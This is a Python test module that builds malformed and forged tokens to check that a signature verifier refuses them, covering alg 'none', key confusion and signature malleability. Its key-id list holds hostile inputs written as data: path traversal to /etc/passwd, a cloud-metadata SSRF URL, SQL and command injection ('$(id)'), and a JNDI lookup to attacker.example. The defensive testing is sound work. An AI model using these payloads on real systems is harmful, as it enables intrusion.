"""Attacks on tokens: what an attacker writes, and what the issuer itself must never have meant.

Each is a credential that must be refused, by a name that says what is wrong with it. Where it
helps the attack, the signature is genuine: then nothing but the check under test can refuse it.
"""

from __future__ import annotations

import json
from collections.abc import Iterator, Mapping

from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from joserfc.jwk import ECKey, OKPKey, RSAKey

from tests.harness.token_content_attacks import content_attacks
from tests.harness.token_forge import MISSING, TokenForge, b64, unb64

ORDER_OF_THE_CURVE = 2**252 + 27742317777372353535851937790883648493
ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
Attacks = dict[str, str]


def attacks(forge: TokenForge) -> Attacks:
    return {
        **_shapes(forge),
        **_encodings(forge),
        **_signatures(forge),
        **_algorithms(forge),
        **_shared_secrets(forge),
        **_foreign_keys(forge),
        **_key_ids(forge),
        **content_attacks(forge),
    }


def mutations(token: str) -> Iterator[tuple[str, str]]:
    """Each place of `token` changed in every way that a slip or a fuzzer would."""
    for place, one in enumerate(token):
        before, after = token[:place], token[place + 1 :]
        yield f"{place} left out", before + after
        yield f"{place} twice", before + one + one + after
        yield f"{place} replaced", before + ("A" if one != "A" else "B") + after
        yield f"{place} in the other case", before + _other_case(one) + after
        for strange in "=+/.%_\xa0":
            if strange != one:
                yield f"{place} is {strange!r}", before + strange + after
            yield f"{strange!r} before {place}", before + strange + one + after


def _other_case(one: str) -> str:
    return one.swapcase() if one.isalpha() else "~"


def _shapes(forge: TokenForge) -> Attacks:
    token = forge.signed()
    header, payload, signature = token.split(".")
    flattened = {"protected": header, "payload": payload, "signature": signature}
    return {
        "garbage": "garbage",
        "two dots": "..",
        "dots only": "." * 100,
        "one part": header,
        "two parts": f"{header}.{payload}",
        "four parts": f"{token}.{b64('x')}",
        "five parts, as an encrypted token has": f"{token}.a.b",
        "five parts of an encrypted token": ".".join([b64('{"alg":"dir","enc":"A256GCM"}')] * 5),
        "no header": f".{payload}.{signature}",
        "no payload: detached": f"{header}..{signature}",
        "no signature": f"{header}.{payload}.",
        "no payload, and a signature over that": _detached(forge),
        "a dot at the end": f"{token}.",
        "a dot at the beginning": f".{token}",
        "two dots between": f"{header}..{payload}.{signature}",
        "parts in another order": f"{payload}.{header}.{signature}",
        "the header twice": f"{header}.{header}.{signature}",
        "JSON serialization, flattened": json.dumps(flattened),
        "JSON serialization, general": json.dumps(
            {"payload": payload, "signatures": [{"protected": header, "signature": signature}]}
        ),
        "JSON serialization within base64": b64(json.dumps(flattened)),
        "a token in a token": forge.signed(claims=token),
        "a token in a token, declared": forge.signed(
            header={**forge.header, "cty": "JWT"}, claims=token
        ),
        "a token as text in a token": forge.signed(claims=json.dumps(token)),
        "two tokens": f"{token}, {token}",
        "two tokens and a space": f"{token} {token}",
        "the scheme twice": f"Bearer {token}",
        "quoted": f'"{token}"',
        "more than 8 KiB": forge.with_claims(pad="x" * 8192),
        "a little more than 8 KiB": forge.with_claims(pad="x" * 5850),
        "a header of nearly 8 KiB": forge.with_header(pad="x" * 5500),
        "16 KiB of the alphabet": ALPHABET * 256,
        "16 KiB of dots": "." * 16384,
    }


def _detached(forge: TokenForge) -> str:
    header = b64(json.dumps(forge.header))
    return f"{header}..{b64(forge.key.sign(f'{header}.'.encode()))}"


def _encodings(forge: TokenForge) -> Attacks:
    token = forge.signed()
    header, payload, signature = token.split(".")
    return {
        "padding": f"{token}==",
        "padding of every part": ".".join(f"{part}==" for part in token.split(".")),
        "the other base64 alphabet": f"{header}.{payload}.+/{signature[2:]}",
        "a line break in base64": f"{header}.{payload[:20]}\t{payload[20:]}.{signature}",
        "a blank in the signature": f"{header}.{payload}.{signature[:9]} {signature[9:]}",
        "a signature with other unused bits": f"{header}.{payload}.{_other_unused_bits(signature)}",
        "a signature in hexadecimal": f"{header}.{payload}.{unb64(signature).hex()}",
        "a letter more than base64 can have": f"{header}.{payload}.{signature}AAA",
        "percent-encoded dots": token.replace(".", "%2e"),
        "a percent-encoded zero at the end": f"{token}%00",
        "a fragment at the end": f"{token}#x",
        "a no-break space before": f"\xa0{token}",
        "a no-break space behind": f"{token}\xa0",
        "a next-line character behind": f"{token}\x85",
        "a letter with an accent": "\u00e9" + token[1:],
        "a superscript digit": token[:-1] + "\u00b2",
        "a header that begins with a byte order mark": forge.signed(
            header=b"\xef\xbb\xbf" + json.dumps(forge.header).encode()
        ),
        "a payload that begins with a byte order mark": forge.signed(
            claims=b"\xef\xbb\xbf" + json.dumps(forge.claims).encode()
        ),
        "a payload in UTF-16": forge.signed(claims=json.dumps(forge.claims).encode("utf-16")),
        "a payload in UTF-32": forge.signed(claims=json.dumps(forge.claims).encode("utf-32-le")),
        "a payload with invalid UTF-8": forge.signed(claims=b'{"a":"\xff"}'),
        "a payload with overlong UTF-8": forge.signed(claims=b'{"a":"\xc0\xaf"}'),
        "a payload with a surrogate in UTF-8": forge.signed(claims=b'{"a":"\xed\xa0\x80"}'),
    }


def _other_unused_bits(encoded: str) -> str:
    """The same bytes for a decoder that is not strict."""
    return encoded[:-1] + ALPHABET[ALPHABET.index(encoded[-1]) + 1]


def _signatures(forge: TokenForge) -> Attacks:
    body, _, encoded = forge.signed().rpartition(".")
    signature = unb64(encoded)
    other_claims = b64(json.dumps({**forge.claims, "tenant": "tnt_other"}))
    malleable = int.from_bytes(signature[32:], "little") + ORDER_OF_THE_CURVE
    changed: Mapping[str, bytes] = {
        "of zeros": bytes(64),
        "of ones": b"\xff" * 64,
        "of the neutral element": b"\x01" + bytes(63),
        "with S beyond the order of the curve": signature[:32] + malleable.to_bytes(32, "little"),
        "with a flipped bit": bytes([signature[0] ^ 1]) + signature[1:],
        "with its halves exchanged": signature[32:] + signature[:32],
        "that is cut short": signature[:-3],
        "of one byte": signature[:1],
        "with a byte more": signature + b"\x00",
        "twice": signature * 2,
        "of something else": forge.key.sign(b"something else"),
        "of the claims alone": forge.key.sign(body.partition(".")[2].encode()),
        "of the body with a dot more": forge.key.sign(f"{body}.".encode()),
    }
    return {
        **{f"a signature {name}": f"{body}.{b64(value)}" for name, value in changed.items()},
        "other claims under our signature": f"{body.split('.')[0]}.{other_claims}.{encoded}",
        "another header under our signature": (
            f"{b64(json.dumps({**forge.header, 'typ': 'JWT'}))}.{body.split('.')[1]}.{encoded}"
        ),
    }


def _algorithms(forge: TokenForge) -> Attacks:
    names: list[object] = [
        "none",
        "None",
        "NONE",
        "nOnE",
        " none",
        "none ",
        "none\x00",
        "",
        "Ed448",
    ]
    names += ["EdDSA", "ed25519", "ED25519", "Ed25519 ", "Ed25519ph", "ES256K", "dir", "HS256"]
    names += [None, True, 0, 25519, ["Ed25519"], {"name": "Ed25519"}, "__class__", "alg\n"]
    return {
        **{f"alg {name!r}, signed": forge.with_header(alg=name) for name in names},
        **{
            f"alg {name!r}, unsigned": forge.body({**forge.header, "alg": name}) + "."
            for name in names[:9]
        },
        "alg none with our signature": forge.body({**forge.header, "alg": "none"})
        + "."
        + forge.signed().rpartition(".")[2],
        "no alg": forge.with_header(alg=MISSING),
        "alg under another case": forge.with_header(alg=MISSING, Alg="Ed25519"),
    }


def _shared_secrets(forge: TokenForge) -> Attacks:
    pem = forge.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    raw = forge.public_bytes(Encoding.Raw, PublicFormat.Raw)
    jwk = OKPKey.import_key(forge.key.public_key()).as_dict(private=False)
    secrets = {
        "the raw public key": raw,
        "the public key in base64": b64(raw).encode(),
        "the public key in hexadecimal": raw.hex().encode(),
        "the public key's PEM": pem,
        "the public key's PEM without its last line break": pem.rstrip(),
        "the public key's PEM with CRLF": pem.replace(b"\n", b"\r\n"),
        "the public key's PEM behind a byte order mark": b"\xef\xbb\xbf" + pem,
        "the public key's DER": forge.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        "the public key in OpenSSH's form": forge.public_bytes(
            Encoding.OpenSSH, PublicFormat.OpenSSH
        ),
        "the public key as a JWK": json.dumps(jwk).encode(),
        "the public key as a compact JWK": json.dumps(jwk, separators=(",", ":")).encode(),
        "the key id": forge.kid.encode(),
        "no secret": b"",
        "a zero": b"\x00",
        "a word that everybody guesses": b"secret",
    }
    return {
        **{f"HS256 with {name}": forge.hmac_with(secret) for name, secret in secrets.items()},
        "HS384 with the public key's PEM": forge.hmac_with(pem, "HS384"),
        "HS512 with the public key's PEM": forge.hmac_with(pem, "HS512"),
    }


def _foreign_keys(forge: TokenForge) -> Attacks:
    foreign = OKPKey.import_key(ed25519.Ed25519PrivateKey.generate())
    rsa_key = RSAKey.import_key(rsa.generate_private_key(public_exponent=65537, key_size=2048))
    p256 = ECKey.import_key(ec.generate_private_key(ec.SECP256R1()))
    p384 = ECKey.import_key(ec.generate_private_key(ec.SECP384R1()))
    jwk = foreign.as_dict(private=False)
    embedded = {**forge.header, "kid": foreign.thumbprint(), "jwk": jwk}
    return {
        "another key under our key id": forge.signed_by(foreign, "Ed25519"),
        "another key under its own key id": forge.signed_by(
            foreign, "Ed25519", kid=foreign.thumbprint()
        ),
        "another key that it brings along": forge.signed_by(foreign, "Ed25519", jwk=jwk),
        "another key that it brings along under its own key id": forge.signed_by(
            foreign, "Ed25519", **embedded
        ),
        "RS256": forge.signed_by(rsa_key, "RS256"),
        "PS256": forge.signed_by(rsa_key, "PS256"),
        "ES256": forge.signed_by(p256, "ES256"),
        "ES384": forge.signed_by(p384, "ES384"),
    }


def _key_ids(forge: TokenForge) -> Attacks:
    texts = [
        "unknown",
        "",
        "../../dev/null",
        "..\\..\\windows\\win.ini",
        "/etc/passwd",
        "file:///dev/null",
        "https://attacker.example/jwks.json",
        "http://169.254.169.254/latest/meta-data/",
        "' OR 1=1 --",
        "x' UNION SELECT 'a",
        "$(id)",
        "|id",
        "{{7*7}}",
        "${jndi:ldap://attacker.example/a}",
        "*",
        "0",
        "__class__",
        f"{forge.kid}\x00",
        f"{forge.kid}\n",
        f" {forge.kid}",
        f"{forge.kid}/../{forge.kid}",
        forge.kid.lower(),
        forge.kid[:-1],
        forge.kid * 20,
        "k" * 4000,
        "\u202e" + forge.kid,
    ]
    values = [None, 0, 1, 1.5, True, [forge.kid], {"kid": forge.kid}, []]
    return {
        **{f"kid {value!r:.40}": forge.with_header(kid=value) for value in [*texts, *values]},
        "no kid": forge.with_header(kid=MISSING),
        "a kid of its claims": forge.signed(
            header={"alg": "Ed25519", "typ": "at+jwt"}, claims={**forge.claims, "kid": forge.kid}
        ),
    }
